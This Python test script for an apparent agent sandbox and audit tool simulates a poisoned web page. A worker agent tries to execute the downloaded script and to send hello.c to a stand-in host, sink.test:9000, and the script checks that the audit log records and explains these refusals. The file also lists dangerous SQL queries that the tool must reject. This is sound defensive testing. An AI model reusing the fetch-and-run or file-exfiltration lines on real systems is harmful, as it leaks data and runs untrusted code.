"""A recorded incident, and what an investigator asks about it: audit/README.md, each answer held to what happened.

A reader fetches a poisoned page and saves it; a worker reads the file, tries to run it in three ways and to send a file away; a clean
agent does the same work without having read it; a fourth is killed.

usage: questions.py --certgate build/bin/certgate
"""

import argparse
import json
import os
import pathlib
import re
import shutil
import signal
import subprocess
import sys
import time

import scenario
from harness import REPO, Checks, Sink, hosts, web_page

READER = 'import subprocess; subprocess.run(["curl", "-sS", "-o", "scratch/page.sh", "http://page.test/"], check=True)'
WORK = """
import os, socket, subprocess
def attempt(what, *args):
    try:
        what(*args)
    except OSError as e:
        print(args[0], e.strerror)
def send(name):
    with socket.create_connection(("sink.test", 9000), 10) as s:
        s.sendall(open(name, "rb").read())
subprocess.run(["cat", "hello.c"], stdout=subprocess.DEVNULL, check=True)
"""
WORKER = WORK + """
open("scratch/page.sh").read()
os.chmod("scratch/page.sh", 0o755)
attempt(os.execv, "./scratch/page.sh", ["page.sh", "a"])
attempt(os.execv, "/bin/sh", ["sh", "scratch/page.sh", "b"])
attempt(os.execv, "/usr/bin/touch", ["touch", "marker-exec-c1"])
attempt(send, "hello.c")
"""
CLEAN = WORK + 'subprocess.run(["/usr/bin/touch", "scratch/made"], check=True)\nattempt(send, "hello.c")\n'


class Incident:
    def __init__(self, checks, host):
        self.checks, self.host = checks, host
        self.workspace, self.state = scenario.make_workspace(host, "incident"), host.state("state-incident")
        self.runs = {}

    def hosted(self, policy, *command, **more):
        return self.host.call("run", "--policy", policy, "--workspace", self.workspace, "--state", self.state, "--", *command,
                              cwd=self.workspace, **more)

    def make(self, policy):
        known = set()
        for name, code in (("reader", READER), ("worker", WORKER), ("clean", CLEAN)):
            (self.workspace / f"{name}.py").write_text(code)
            self.host.own(self.workspace)
            done = self.hosted(policy, "python3", f"{name}.py")
            if name != "clean":
                self.checks.check(done.returncode == 0, f"the {name} ends", done.stdout + done.stderr)
            now = {r["agent"] for r in self.json("runs")}
            (self.runs[name],) = now - known
            known = now
        self.killed(policy, known)

    def killed(self, policy, known):
        args = self.host.command("run", "--policy", policy, "--workspace", self.workspace, "--state", self.state, "--", "sleep", "60")
        child = subprocess.Popen(args, env=self.host.env(), cwd=self.workspace, stdin=subprocess.DEVNULL, start_new_session=True,
                                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline and not any(r["object"].endswith("/sleep") for r in self.json("list", "--verb", "exec")):
            time.sleep(0.1)
        os.killpg(child.pid, signal.SIGKILL)
        child.wait()
        cut = []
        while not cut and time.monotonic() < deadline:
            self.hosted(policy, "/bin/true")   # the next start after its last process has gone seals what it left
            cut = [r["agent"] for r in self.json("runs") if r["agent"] not in known and r["end"] == "cut off"]
        (self.runs["killed"],) = cut

    def ask(self, *args, status=0):
        said = self.host.call("audit", *args, "--state", self.state)
        self.checks.check(said.returncode == status and not said.stderr, f"audit {' '.join(map(str, args))[:70]}: status {status}",
                          said.stdout + said.stderr) if said.returncode != status or said.stderr else None
        return said.stdout

    def json(self, *args, status=0):
        return [json.loads(line) for line in self.ask(*args, "--json", status=status).splitlines()]

    def one(self, run, where):
        found = self.json("list", "--agent", self.runs[run], "--where", where)
        return found[0] if found else {"id": "none-0"}


def golden(checks, what, text, *wanted, absent=()):
    missing = [w for w in wanted if not re.search(w, text)]
    there = [w for w in absent if re.search(w, text)]
    checks.check(not missing and not there, what, f"missing {missing}, not wanted {there} in\n{text}")


def the_run(checks, it):
    """1, 2, 7–11, 20, 22, 23: what an agent did."""
    r = it.runs
    refused = it.json("list", "--agent", r["worker"], "--verdict", "refused")
    checks.check([x["call"] for x in refused] == ["execve"] * 3 + ["connect"] and {x["reason"] for x in refused} == {"UNTRUSTED_ORIGIN"},
                 "10: four attempts were refused, in their order", refused)
    golden(checks, "1: which agent ran it", it.ask("list", "--verb", "exec", "--object", "/usr/bin/curl"), f"{r['reader']}-", absent=[r["worker"]])
    shell = it.one("worker", "verdict=refused and object=/usr/bin/dash")
    golden(checks, "2: argv, content and time", it.ask("why", shell["id"]), r"argv\[1\]\s+scratch/page\.sh", r"sha256\s+[0-9a-f]{64}", r"time\s+2\d{3}-")
    golden(checks, "7: the rule and the policy's digest", it.ask("why", it.one("clean", "object=/usr/bin/touch")["id"]), r"rule\s+\S+",
           r"policy\s+[0-9a-f]{64}")
    token = it.one("clean", "verb=exec")["token"]
    golden(checks, "8: the token chain is in the log", it.ask("list", "--agent", r["clean"], "--kind", "token"), "token")
    checks.check(bool(token) and len(it.json("list", "--where", f"token={token} and verb=exec")) >= 2, "8: what a token allowed", token)
    checks.check(it.ask("list", "--where", "kind=revoke or kind=epoch") == "", "9: no token was ended")
    tree = it.json("tree", r["worker"])[0]
    programs = [p["object"] for process in tree["processes"] for p in process["programs"]]
    first, second = (tree["processes"] + [{}, {}])[:2]
    checks.check(tree["end"] == "exit status 0" and "/usr/bin/cat" in programs and len(tree["processes"]) == 2 and tree["missing"]
                 and second.get("parent") == first.get("pid"),
                 "11: the processes, whose children they are, what they executed, and what the records do not hold", tree)
    first = it.json("list", "--object", "/usr/bin/cat", "--limit", "1")
    checks.check(len(first) == 1 and first[0]["agent"] == r["worker"], "20: the first time this program was seen", first)
    golden(checks, "22: step by step", it.ask("timeline", r["worker"]), r"\+0\.0\d+ s .*start", "REFUSED execve", "→ label .*web:page.test", "… [0-9]+ reads", "stop exit 0")
    both = it.ask("diff", r["clean"], r["worker"], status=1)
    golden(checks, "23: what differs from the good run", both, r"- connect sink\.test:9000", r"\+ refused connect sink\.test:9000",
           r"\+ refused exec /usr/bin/dash", absent=[r"hello\.c"])
    checks.check("both did the same" in it.ask("diff", r["clean"], r["clean"]), "23: a run does not differ from itself")


def the_poison(checks, it):
    """3–6, 12–14: where it came from, where it went."""
    r = it.runs
    shell = it.one("worker", "verdict=refused and object=/usr/bin/dash")
    why = it.json("why", shell["id"])[0]
    chain = [(step["agent"], step["call"].split("at")[0], step["object"].rsplit("/", 1)[-1]) for step in why["chain"]]
    page = "page.sh"
    checks.check(chain == [(r["reader"], "connect", "page.test:80"), (r["reader"], "open", page), (r["worker"], "open", page)] and
                 why["origin"] == "web:page.test", "3: from the page by the file to the refusal", chain)
    path = it.json("path", "web:page.test", shell["id"])[0]["path"]
    checks.check([s["agent"] for s in path] == [r["reader"]] * 2 + [r["worker"]] * 2 and path[-1]["id"] == shell["id"],
                 "4: the shortest path has four steps", path)
    golden(checks, "4: … in words", it.ask("path", "web:page.test", shell["id"]), "connect page.test:80", "and what it wrote was read by",
           "refused execve /usr/bin/dash")
    checks.check(it.json("path", "web:page.test", it.one("clean", "object=/usr/bin/touch")["id"], status=1)[0]["path"] == [],
                 "4: no path leads to the clean agent")
    impact = {a["agent"]: a for a in it.json("impact", "web:page.test")[0]["agents"]}
    checks.check(set(impact) == {r["reader"], r["worker"]} and impact[r["worker"]]["refused"]["count"] == 4,
                 "5: the page influenced the reader and the worker, nobody else", list(impact))
    wrote = it.one("reader", "verb=write and object~\"*/scratch/page.sh\"")
    golden(checks, "6: who read what it wrote while tainted", it.ask("impact", wrote["id"]), "2 agents are influenced", r["worker"], absent=[r["clean"]])
    files = it.json("list", "--agent", r["worker"], "--where", 'object~"*/scratch/*" and (verb=read or verb=write)')
    checks.check({x["object"].rsplit("/", 1)[-1] for x in files} == {page}, "12: the files it read and changed", files)
    connects = it.json("list", "--verb", "connect")
    checks.check({(x["agent"], x["object"], x["verdict"]) for x in connects} ==
                 {(r["reader"], "page.test:80", "allow"), (r["worker"], "sink.test:9000", "refuse"), (r["clean"], "sink.test:9000", "allow")},
                 "13: what was contacted", connects)
    secret = {a["agent"]: a for a in it.json("impact", f"{it.workspace}/hello.c")[0]["agents"]}
    checks.check("connect" in secret[r["clean"]] and "connect" not in secret[r["worker"]],
                 "14: after reading the file only the clean agent connected", secret)


def the_evidence(checks, it, checkpoint):
    """15–19, 24, 25: can it be believed?"""
    key = (it.state / "key.pub").read_text().strip()
    shell = it.one("worker", "verdict=refused and object=/usr/bin/dash")
    place = it.host.base / "x.tlog-proof"
    place.write_text(it.ask("prove", shell["id"]))
    golden(checks, "15: in the log, unaltered", it.ask("check", place, "--key", key), "yes: record", shell["id"])
    golden(checks, "16: nothing was removed since the checkpoint", it.ask("verify", "--checkpoint", checkpoint), "witnessed  held: the first")
    golden(checks, "17, 18: the killed run has a gap, and is named", it.ask("complete", status=1), "no: 1 of", f"run {it.runs['killed']}: a gap record")
    reads = it.json("reads")
    who = "root" if it.host.as_root else "nobody"
    checks.check(any("audit why" in x["what"] for x in reads) and all(who in x["who"] for x in reads), "24: who has looked at it", reads[-3:])
    one = it.ask("pack", it.one("worker", "call=execve and verdict=allowed")["id"])
    checks.check(len(one.encode()) <= 5000, f"25: a pack of one decision: {len(one.encode())} bytes")
    # This one has the records of four more decisions of two agents, by which the page came, and their proofs.
    place.write_text(it.ask("pack", shell["id"]))
    checks.check(len(place.read_bytes()) <= 6000, f"25: a pack of one decision and its causes: {len(place.read_bytes())} bytes")
    golden(checks, "25: … that says it all, and is checked with a key alone", it.ask("check", place, "--key", key), "yes: ", "page.test:80", "policy", "chain")


def without_rights(checks, it):
    """A copy of the log answers, and says that nobody records the reading."""
    copy = it.host.state("copy")
    for name in ("log", "key.pub", "checkpoint.last"):
        source = it.state / name
        (shutil.copytree if source.is_dir() else shutil.copy)(source, copy / name)
    it.host.own(copy)
    other = it.host.as_agent() if it.host.as_root else []
    said = subprocess.run([*other, *([] if other else it.host.prefix()), it.host.certgate, "audit", "runs", "--state", copy], env=it.host.env(), capture_output=True,
                          text=True, check=False, timeout=60)
    checks.check(said.returncode == 0 and it.runs["worker"] in said.stdout and "this reading is not recorded" in said.stderr,
                 "a copy without its key answers, and says that the reading is not recorded", said.stdout[:500] + said.stderr)


ENDS = 'sh -c "exit 3"; sh -c "kill -9 \\$\\$"; sleep 100 & sleep 1; exit 5'
INFO_EXIT = (6, 15)   # from this Linux on a pidfd tells the status of who was waited for


def exits(checks, it, policy):
    """11: how single processes ended: by themselves, by a signal, with the sandbox."""
    known = {r["agent"] for r in it.json("runs")}
    done = it.hosted(policy, "sh", "-c", ENDS)
    (run,) = {r["agent"] for r in it.json("runs")} - known
    ends = it.json("list", "--agent", run, "--kind", "exit")
    execs = {r["id"]: r for r in it.json("list", "--agent", run, "--verb", "exec", "--where", "verdict=allowed")}
    named = all(e["exec"] in execs and execs[e["exec"]]["pid"] == e["pid"] and e["started"] > 0 and e["verdict"] == "" for e in ends)
    checks.check(done.returncode == 5 and len(ends) == len({e["pid"] for e in ends}) == len({e["pid"] for e in execs.values()}) == 5 and named,
                 "11: each process that made an exec has one exit, which names it", (done.stderr, ends, list(execs.values())))
    how = sorted(e.get("exit_status", 1000 + e.get("signal", 0)) for e in ends)
    linux = tuple(int(x) for x in os.uname().release.split(".")[:2])
    if linux >= INFO_EXIT:
        checks.check(how == [0, 3, 5, 1009, 1009], "11: exit 0, 3 and 5, a SIGKILL, and one that ended with the sandbox", how)
    else:
        checks.check(set(how) <= {0, 3, 5, 1000, 1009}, "11: what this kernel tells of how they ended", how)
    checks.check(not any(r["kind"] == "exit" for r in it.json("list", "--agent", run)) and
                 len(it.json("list", "--agent", run, "--where", "kind=exit or verb=exec")) == len(it.json("list", "--agent", run, "--verb", "exec")) + 5 and
                 sum(r["kind"] == "exit" for r in it.json("list", "--agent", run, "--all")) == 5, "11: list shows them when they are asked for")
    tree = it.json("tree", run)[0]
    checks.check(sorted(p["exit"]["id"] for p in tree["processes"] if "exit" in p) == sorted(e["id"] for e in ends), "11: the tree has them", tree)
    if linux >= INFO_EXIT:
        golden(checks, "11: … in words", it.ask("tree", run), "; ended, status 3", "; ended, status 5", "; ended, signal 9")
        golden(checks, "22: the timeline has them", it.ask("timeline", run), r"exit of pid \d+ \(exec " + run + r"-\d+\): status 3")
    verified = it.host.call("audit", "verify", "--state", it.state)
    checks.check(verified.returncode == 0, "the log with exits verifies", verified.stdout + verified.stderr)


def reindexed(checks, it):
    """The index is a cache: thrown away, damaged or grown, the answers are the same."""
    asked = [("list", "--json"), ("runs", "--json"), ("impact", "web:page.test", "--json"), ("tree", it.runs["worker"], "--json")]
    before = [it.ask(*a) for a in asked]
    it.ask("reindex")
    checks.check([it.ask(*a) for a in asked] == before, "after audit reindex the answers are the same")
    (it.state / "index.sqlite").write_bytes(b"x" * 5000)
    again = it.host.call("audit", "list", "--json", "--state", it.state)
    checks.check(again.stdout == before[0] and "made anew" in again.stderr, "a damaged index is made anew, and that is said", again.stderr)
    for query in ("DELETE FROM record", "PRAGMA writable_schema=1", "ATTACH 'x' AS y", "SELECT load_extension('x')", "SELECT 1; SELECT 2"):
        said = it.host.call("audit", "sql", query, "--state", it.state)
        checks.check(said.returncode == 2 and said.stderr, f"sql refuses {query}", said.stdout + said.stderr)
    golden(checks, "sql answers", it.ask("sql", "SELECT count(*) AS n FROM event WHERE verdict = 'refuse' AND reason = 'UNTRUSTED_ORIGIN'"), "n\n4")


def readers_at_once(checks, it, policy):
    """While an agent works, eight ask at once: each sees a prefix of the log that is right, nobody waits for another's pager."""
    command = it.host.command("run", "--policy", policy, "--workspace", it.workspace, "--state", it.state, "--", "sh", "-c",
                              "for i in $(seq 60); do : > scratch/f$i; sleep 0.02; done")
    agent = subprocess.Popen(command, env=it.host.env(), cwd=it.workspace, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    time.sleep(0.3)
    ask = it.host.command("audit", "list", "--json", "--state", it.state)
    slow = subprocess.Popen(ask, env=it.host.env(), stdout=subprocess.PIPE, stderr=subprocess.PIPE)   # read by nobody until the end
    readers = [subprocess.Popen(ask, env=it.host.env(), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) for _ in range(7)]
    said = [reader.communicate(timeout=60) for reader in readers]
    checks.check(all(r.returncode == 0 for r in readers) and not any(err for _, err in said), "seven readers at once are all answered, beside a stalled one",
                 [err for _, err in said if err])
    slow.stdout.read()
    agent.wait(timeout=60)
    after = it.ask("list", "--json").splitlines()

    def runs(lines):
        ids = {}
        for line in lines:
            record = json.loads(line)
            ids.setdefault(record["agent"], []).append(record["id"])
        return ids
    whole = runs(after)
    wrong = [out for out, _ in said for agent_id, ids in runs(out.splitlines()).items() if whole[agent_id][:len(ids)] != ids]
    checks.check(not wrong and slow.wait(timeout=5) == 0, "each of them saw the beginning of what is there in the end", wrong[:1])


def schemas(checks, it):
    """Everything that --json says is what audit/schema.json publishes."""
    shell = it.one("worker", "verdict=refused and object=/usr/bin/dash")
    key = (it.state / "key.pub").read_text().strip()
    place = it.host.base / "y.pack"
    place.write_text(it.ask("pack", shell["id"]))
    outputs = {"record": ("list",), "run": ("runs",), "explanation": ("why", shell["id"]), "impact": ("impact", "web:page.test"),
               "path": ("path", "web:page.test", shell["id"]), "tree": ("tree", it.runs["worker"]), "read": ("reads",),
               "diff": ("diff", it.runs["clean"], it.runs["worker"]), "verify": ("verify",), "complete": ("complete",),
               "check": ("check", place, "--key", key), "export": ("export", "--format", "jsonl")}
    lines = []
    for name, args in outputs.items():
        said = it.host.call("audit", *args, "--json", "--state", it.state)
        lines += [f"{name} {line}" for line in said.stdout.splitlines()]
    program = """
import json, sys, jsonschema
schema = json.load(open(sys.argv[1]))
validators = {}
for line in sys.stdin:
    name, text = line.split(" ", 1)
    if name not in validators:
        validators[name] = jsonschema.Draft7Validator({"$ref": "#/definitions/" + name, "definitions": schema["definitions"]})
    for error in validators[name].iter_errors(json.loads(text)):
        print(name, list(error.path), error.message[:300]); sys.exit(1)
print(len(validators))
"""
    if subprocess.run(["/usr/bin/python3", "-c", "import jsonschema"], capture_output=True, check=False).returncode != 0:
        checks.skip("the published schema", "python3-jsonschema is not installed")
        return
    done = subprocess.run(["/usr/bin/python3", "-c", program, REPO / "audit/schema.json"], input="\n".join(lines) + "\n", capture_output=True, text=True,
                          check=False)
    checks.check(done.returncode == 0 and done.stdout.strip() == str(len(outputs)), f"the JSON of {len(outputs)} verbs is as published", done.stdout + done.stderr)


def exported(it, form, *more, text=True):
    return subprocess.run([*it.host.command("audit", "export", "--format", form, *more, "--state", it.state)], env=it.host.env(),
                          cwd=it.host.base, capture_output=True, text=text, check=True, timeout=60).stdout


def exports(checks, it):
    everything = [json.loads(line) for line in exported(it, "jsonl").splitlines()]
    checks.check(len(everything) == len(it.json("list")) + len(it.json("list", "--kind", "exit")) and all(x["leaf"] for x in everything), "export jsonl: every record, with its leaf hash")
    events = [json.loads(line) for line in exported(it, "ocsf").splitlines()]
    wanted = {"class_uid", "category_uid", "activity_id", "type_uid", "time", "severity_id", "metadata"}
    checks.check(any(e["type_uid"] == 100702 and "exit_code" in e for e in events), "export ocsf: processes end")
    checks.check({e["class_uid"] for e in events} == {1001, 1007, 4001, 6002} and all(wanted <= set(e) for e in events) and
                 all(e["type_uid"] == e["class_uid"] * 100 + e["activity_id"] for e in events) and
                 sum(e["disposition_id"] == 2 for e in events) == 4, "export ocsf: required attributes, four classes, four blocked")
    otlp = json.loads(exported(it, "otlp"))["resourceLogs"][0]["scopeLogs"][0]["logRecords"]
    checks.check(len(otlp) == len(everything) and all(int(x["timeUnixNano"]) > 10**18 for x in otlp), "export otlp: one document of all records")
    export_prov(checks, it)
    export_auditd(checks, it)
    export_dot(checks, it)
    export_perfetto(checks, it)


def export_prov(checks, it):
    program = "import sys, prov.model as m; d = m.ProvDocument.deserialize(sys.stdin, format='json'); " \
              "print(len(list(d.get_records(m.ProvUsage))), len(list(d.get_records(m.ProvGeneration))), len(list(d.get_records(m.ProvAgent))))"
    if subprocess.run(["/usr/bin/python3", "-c", "import prov.model"], capture_output=True, check=False).returncode != 0:
        checks.skip("export prov-json", "python3-prov is not installed")
        return
    done = subprocess.run(["/usr/bin/python3", "-c", program], input=exported(it, "prov-json"), capture_output=True, text=True, check=False)
    counts = [int(x) for x in done.stdout.split()]
    checks.check(len(counts) == 3 and counts[0] > 50 and counts[1] >= 2 and counts[2] >= 5, "export prov-json: read by python3-prov", done.stdout + done.stderr)


def export_auditd(checks, it):
    ausearch = shutil.which("ausearch", path=os.environ.get("CERTGATE_TOOLS", "") + ":/usr/sbin:/sbin:/usr/bin")
    if ausearch is None:
        checks.skip("export auditd", "ausearch (package auditd) is not here")
        return
    place = it.host.base / "audit.log"
    place.write_text(exported(it, "auditd"))
    execs = len(it.json("list", "--where", "verb=exec"))
    env = os.environ | {"LC_ALL": "C"}

    def search(*args):
        return subprocess.run([ausearch, "-if", place, "--format", "raw", *args], capture_output=True, text=True, env=env, stdin=subprocess.DEVNULL, check=False)

    found = search("-sc", "execve")
    refused = search("-sc", "execve", "-sv", "no", "-k", f"certgate-{it.runs['worker']}")
    checks.check(found.stdout.count("type=EXECVE") == execs and refused.stdout.count("type=SYSCALL") >= 3, "export auditd: ausearch finds the execs, and the refused ones",
                 f"{found.stdout.count('type=EXECVE')} of {execs}; {refused.stdout[:600]}{found.stderr}")


def export_dot(checks, it):
    if shutil.which("dot") is None:
        checks.skip("export dot", "graphviz is not installed")
        return
    done = subprocess.run(["dot", "-Tplain"], input=exported(it, "dot", "--agent", it.runs["worker"], "--where", "verb!=read or object~\"*page.sh\""),
                          capture_output=True, text=True, check=False)
    checks.check(done.returncode == 0 and "sink.test:9000" in done.stdout and done.stdout.count("\nedge") >= 5, "export dot: drawn by Graphviz", done.stdout[:400] + done.stderr)


def export_perfetto(checks, it):
    if shutil.which("protoc") is None:
        checks.skip("export perfetto", "protobuf-compiler is not installed")
        return
    done = subprocess.run(["protoc", "--decode_raw"], input=exported(it, "perfetto", text=False), capture_output=True, check=False)
    text = done.stdout.decode(errors="replace")
    flows = re.findall(r"^    47: (0x[0-9a-f]+)$", text, re.M)
    checks.check(done.returncode == 0 and text.count("\n  60 {") >= 8 and len(flows) > len(set(flows)),
                 "export perfetto: decoded by protoc, with tracks, and flows that have two ends", text[:600] + done.stderr.decode())


def screens(checks, it):
    """On a terminal: colour, the width, a pager; NO_COLOR; in a pipe nothing of that."""
    def on_terminal(env, *args):
        command = " ".join(f"'{a}'" for a in it.host.command("audit", *args, "--state", it.state))
        return subprocess.run(["script", "-qec", f"stty cols 60; {command}", "/dev/null"], env=it.host.env() | {"TERM": "xterm"} | env, cwd=it.host.base,
                              stdin=subprocess.DEVNULL, capture_output=True, text=True, check=False, timeout=60).stdout.replace("\r", "")
    plain = it.ask("list", "--verdict", "refused")
    checks.check("\x1b" not in plain and len(max(plain.splitlines(), key=len)) > 100, "in a pipe: whole lines without colour", plain)
    shown = on_terminal({"CERTGATE_PAGER": "sed s/^/paged:/"}, "list", "--verdict", "refused")
    lines = [re.sub("\x1b\\[[0-9]*m", "", line) for line in shown.splitlines()]
    checks.check(len(lines) == 4 and all(line.startswith("paged:") and len(line) == 66 and line.endswith("…") for line in lines) and "\x1b[31m" in shown,
                 "on a terminal: a pager, colour, cut to the width", shown)
    checks.check("\x1b[" not in on_terminal({"NO_COLOR": "1", "PAGER": "cat"}, "list", "--verdict", "refused"), "NO_COLOR is respected")


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--certgate", type=pathlib.Path, required=True)
    args = parser.parse_args()
    checks = Checks("questions")
    for host in hosts(args.certgate):
        print(f"== certgate {host.name}, agent uid {host.uid}")
        sink = Sink()
        try:
            with web_page(scenario.PAGE) as page_port:
                it = Incident(checks, host)
                policy = scenario.make_policy(host, page_port, sink.port)
                it.make(policy)
            checkpoint = host.base / "kept-checkpoint"
            shutil.copy(it.state / "log/checkpoint", checkpoint)
            the_run(checks, it)
            the_poison(checks, it)
            the_evidence(checks, it, checkpoint)
            exits(checks, it, policy)
            reindexed(checks, it)
            without_rights(checks, it)
            schemas(checks, it)
            exports(checks, it)
            screens(checks, it)
            readers_at_once(checks, it, policy)
        finally:
            sink.close()
            host.remove()
    return checks.finish()


if __name__ == "__main__":
    sys.exit(main())
